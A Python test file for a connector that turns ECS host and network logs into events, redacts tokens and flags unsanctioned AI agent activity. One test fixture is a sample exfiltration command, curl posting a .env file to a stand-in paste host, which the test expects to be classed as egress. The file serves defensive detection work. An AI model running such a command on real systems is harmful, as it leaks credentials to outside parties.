"""What ECS documents of hosts and networks say about who runs what and speaks to whom."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import orjson
import pytest

from agentwarrant.cli.output import json_line
from agentwarrant.collect import Collector, load_connectors
from agentwarrant.connector import Raw
from agentwarrant.event import Event
from agentwarrant.inputs import DeadLetter, open_input
from agentwarrant.redact import Redactor
from agentwarrant.scan import Scan

SOURCES = load_connectors(Redactor(b"key"))
SOURCE = SOURCES["ecs"]
SAMPLES = Path(__file__).parents[2] / "connectors/ecs/samples"
TIME = "2026-11-16T09:00:00.000Z"


def bury(letter: DeadLetter) -> None:
    raise AssertionError(letter)


def events(record: dict[str, Any]) -> list[Event]:
    return list(SOURCE.normalize(Raw(record)))


def event(record: dict[str, Any]) -> Event:
    [found] = events(record)
    return found


def document(category: str, types: list[str], action: str = "", **more: Any) -> dict[str, Any]:
    said = {"category": [category], "type": types, "action": action, "dataset": "endpoint"}
    host, user = {"name": "WS-7"}, {"name": "dana", "id": "1000"}
    return {"@timestamp": TIME, "event": said, "host": host, "user": user, **more}


def started(line: str, **more: Any) -> dict[str, Any]:
    name = line.split()[0]
    return document("process", ["start"], "exec", process={"name": name, "command_line": line}
                    | more)  # fmt: skip


def sure_of(tmp_path: Path, *records: dict[str, Any]) -> int:
    path = tmp_path / "x.jsonl"
    path.write_bytes(b"\n".join(map(orjson.dumps, records)))
    return SOURCE.recognise(open_input(path, bury))


def test_a_process_that_starts_is_a_call_of_the_tool_process() -> None:
    found = event(started("curl -d @.env https://paste.example/up"))
    assert found["event.action"] == "tool_call"
    assert found["gen_ai.tool.name"] == "process"
    assert found["warrant.tool.class"] == "egress"
    assert found["warrant.identity.accounts"] == ["ecs.user:ws-7/dana"]
    assert found["event.code"] == "exec"
    assert found["event.provider"] == "endpoint"


def test_nobody_is_called_an_agent_unless_the_document_does() -> None:
    plain = event(started("ls"))
    assert "gen_ai.agent.id" not in plain
    assert "warrant.identity.agentic" not in plain
    named = event({**started("ls"), "gen_ai": {"agent": {"id": "helper"}}})
    assert named["gen_ai.agent.id"] == "helper"
    assert named["warrant.agent.assurance"] == "claimed"
    assert named["warrant.identity.accounts"] == ["ecs.agent:helper", "ecs.user:ws-7/dana"]


def test_of_an_environment_only_the_names_are_kept() -> None:
    found = event(
        started("ls", env_vars=["OPENCLAW_SHELL=exec", "TOKEN=fake-hunter2", "=x", "a b=1"])
    )
    assert found["process.env_vars"] == ["OPENCLAW_SHELL", "TOKEN"]
    assert b"hunter2" not in orjson.dumps(found)


def test_where_no_command_line_was_kept_the_arguments_are_it() -> None:
    record = document("process", ["start"], process={"name": "git", "args": ["git", "push"]})
    assert event(record)["process.command_line"] == "git push"


@pytest.mark.parametrize(
    ("types", "action"),
    [(["end"], "end"), (["start"], "fork"), (["change"], "uid_change"), (["info"], "mprotect")],
)
def test_what_starts_no_program_is_passed_over(types: list[str], action: str) -> None:
    assert events(document("process", types, action, process={"name": "bash"})) == []


def test_a_program_that_ran_before_the_sensor_did_is_alive_and_acts_not() -> None:
    found = event(document("process", ["info"], "already_running", process={"name": "openclaw"}))
    assert found["event.action"] == "heartbeat"
    assert found["process.name"] == "openclaw"


def test_a_fork_and_exec_that_the_sensor_merged_is_one_start() -> None:
    record = started("git status")
    record["event"] |= {"action": ["fork", "exec", "end"], "type": ["start", "start", "end"]}
    assert event(record)["event.code"] == "fork, exec, end"


def test_the_same_document_is_one_event_nested_dotted_or_as_a_hit() -> None:
    dotted = {"@timestamp": TIME, "event.category": "network", "event.type": ["start"],
              "event.module": "endpoint", "event.id": "e1", "host.name": "a",
              "user.name": "b", "process.pid": 7, "destination.ip": "203.0.113.5"}  # fmt: skip
    nested = {"@timestamp": TIME, "event": {"category": ["network"], "type": "start",
              "module": "endpoint", "id": "e1"}, "host": {"name": "a"}, "user.name": "b",
              "process": {"pid": 7}, "destination": {"ip": ["203.0.113.5"]}}  # fmt: skip
    hit = {"_index": "logs", "_id": "x", "_source": nested}
    assert event(dotted) == event(nested) == event(hit)


def test_logs_of_one_connection_that_share_an_id_are_several_events() -> None:
    about = {"@timestamp": TIME, "event.category": ["network"], "event.module": "zeek",
             "event.id": "Ck1", "destination.ip": "203.0.113.5"}  # fmt: skip
    one, other = event({**about, "event.dataset": "a"}), event({**about, "event.dataset": "b"})
    assert one["event.id"] != other["event.id"]


def test_a_request_keeps_its_url_and_method_and_loses_the_token_in_it() -> None:
    found = event({
        "@timestamp": TIME, "event.category": ["web"], "event.type": ["access"],
        "url.full": "https://api.example:8443/v1/agents/register?token=fake-hunter2-0000000000",
        "http.request.method": "POST", "user_agent.original": "claude-cli/2.0",
        "source.ip": "10.0.8.21", "host.name": "proxy",
    })  # fmt: skip
    assert found["url.domain"] == "api.example"
    assert found["destination.address"] == "api.example:8443"
    assert found["warrant.network.operation"] == "register"
    assert found["user_agent.original"] == "claude-cli/2.0"
    assert "hunter2" not in str(found["url.full"])
    assert found["warrant.identity.accounts"] == ["ecs.host:10.0.8.21"]


def test_a_url_in_parts_is_put_together() -> None:
    found = event({
        "@timestamp": TIME, "event.category": ["network"], "event.type": ["protocol"],
        "url": {"scheme": "https", "domain": "a.example", "port": 444, "path": "/x",
                "query": "y=1"},
    })  # fmt: skip
    assert found["url.full"] == "https://a.example:444/x?y=1"


@pytest.mark.parametrize(
    ("destination", "address", "kind"),
    [
        ({"domain": "WWW.Moltbook.com.", "port": 443}, "www.moltbook.com", "agent_network"),
        ({"ip": "203.0.113.5", "port": 18789}, "203.0.113.5:18789", "private"),
        ({"ip": "2606:4700::1111", "port": 8080}, "[2606:4700::1111]:8080", "internet"),
        ({"ip": "169.254.169.254", "port": 80}, "169.254.169.254", "metadata"),
    ],
)
def test_a_connection_goes_where_it_goes(
    destination: dict[str, Any], address: str, kind: str
) -> None:
    found = event(document("network", ["start"], "connection_attempted", destination=destination))
    assert found["event.action"] == "network_connection"
    assert found["destination.address"] == address
    assert found["warrant.network.kind"] == kind


def test_a_lookup_is_not_a_connection_to_the_resolver() -> None:
    found = event(document("network", ["protocol"], "lookup_result", destination={"ip": "10.0.0.2"},
                           dns={"question": {"name": "API.openai.com."}}))  # fmt: skip
    assert found["dns.question.name"] == "api.openai.com"
    assert "destination.address" not in found
    assert found["warrant.network.operation"] == "none"


def test_who_is_connected_to_goes_nowhere() -> None:
    found = event(document("network", ["start"], "connection_accepted", process={"name": "node"},
                           destination={"ip": "10.0.0.7", "port": 18789}))  # fmt: skip
    assert found["destination.port"] == 18789
    assert "destination.address" not in found


def test_a_connection_that_only_ends_has_been_told_of() -> None:
    assert events(document("network", ["end"], "disconnect_received")) == []


def test_a_connection_that_was_refused_is_denied() -> None:
    found = event(document("network", ["connection", "denied"], destination={"ip": "203.0.113.5"}))
    assert found["warrant.policy.decision"] == "denied"
    assert found["event.outcome"] == "failure"


@pytest.mark.parametrize(
    ("action", "types", "expected"),
    [
        ("ssh_login", ["start"], "login"),
        ("logged-in", ["start"], "login"),
        ("log_off", ["end"], "session_end"),
        ("logged-out", ["end"], "session_end"),
    ],
)
def test_sign_ins_are_told_from_their_ends(action: str, types: list[str], expected: str) -> None:
    assert event(document("authentication", types, action))["event.action"] == expected


@pytest.mark.parametrize("category", ["file", "registry", "malware", "package"])
def test_other_documents_give_nothing_and_are_no_fault(category: str) -> None:
    assert events(document(category, ["start"])) == []


def test_what_this_package_wrote_is_not_read_a_second_time(tmp_path: Path) -> None:
    out = tmp_path / "events.jsonl"
    with out.open("wb") as stream:
        for one in Scan.over(()).events([SAMPLES]):
            stream.write(json_line(one))
    assert SOURCE.recognise(open_input(out, bury)) == 0


def test_a_log_with_a_time_and_no_field_of_ecs_is_not_claimed(tmp_path: Path) -> None:
    assert sure_of(tmp_path, {"@timestamp": TIME, "message": "hello", "level": "info"}) == 0
    assert sure_of(tmp_path, {"@timestamp": TIME, "ecs.version": "1.6.0", "message": "hi"}) == 0


def test_documents_of_no_interest_are_claimed_less_surely(tmp_path: Path) -> None:
    assert 0 < sure_of(tmp_path, document("file", ["creation"])) < 50
    assert sure_of(tmp_path, document("process", ["start"])) > 50


def test_the_answer_of_a_search_is_its_hits() -> None:
    collector = Collector(SOURCES)
    found = list(collector.events([SAMPLES / "search_hits.json"]))
    assert len(found) == 5
    assert collector.tally.dead == 0


def test_a_document_deeper_or_wider_than_any_is_read_to_a_bound() -> None:
    deep: Any = "x"
    for _ in range(400):
        deep = {"a": deep}
    wide = {str(number): number for number in range(50_000)}
    found = event(
        document("process", ["start"], process={"command_line": "ls"}, deep=deep, labels=wide)
    )
    assert found["process.command_line"] == "ls"


def test_a_document_without_a_time_is_a_dead_letter(tmp_path: Path) -> None:
    path = tmp_path / "x.jsonl"
    broken = {**started("ls"), "@timestamp": "yesterday"}
    path.write_bytes(orjson.dumps(started("ls")) + b"\n" + orjson.dumps(broken) + b"\n")
    collector = Collector(SOURCES)
    assert len(list(collector.events([path]))) == 1
    assert [letter.line for letter in collector.tally.dead_letters] == [2]


def test_shadow_agents_are_found_on_the_wire_and_people_are_not() -> None:
    found = {e.agent: set(e.signs) for e in Scan.over(()).inventory([SAMPLES]).entries()}
    assert "it is a process of OpenClaw" in found["ecs.user:ws-dana/dana"]
    assert "OpenClaw set OPENCLAW_SHELL for it" in found["ecs.user:ws-dana/dana"]
    assert "it is a process of Claude Code" in found["ecs.user:ws-dana/dana"]
    assert "it uses a model at api.anthropic.com" in found["ecs.user:build-07/ci"]
    assert "its user agent is that of Claude Code" in found["ecs.user:dana"]
    assert "it speaks to port 18789 of OpenClaw" in found["ecs.host:10.20.0.44"]
    assert not [name for name in found if "erin" in name or "frank" in name or "10.20.0.31" in name]
